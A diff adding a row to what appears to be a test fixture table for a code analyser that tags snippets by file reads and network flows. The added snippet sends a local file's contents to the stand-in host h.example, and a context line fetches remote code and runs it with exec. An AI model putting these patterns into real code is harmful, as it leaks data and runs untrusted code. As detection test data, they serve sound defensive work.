@@ -99,6 +99,11 @@ const CODE: FactRows = {
       reads: ["./a"],
       network: ["both https://h.example < ./a"],
     },
+    {
+      run: "import requests\nopen('a').read()\nrequests.post('https://h.example', data=open('a').read())",
+      reads: ["./a"],
+      network: ["both https://h.example < ./a"],
+    },
     { run: "import urllib.request as u\nu.urlopen('https://h.example')", network: ["in https://h.example"] },
     {
       run: "import requests\nexec(requests.get('https://h.example').text)",
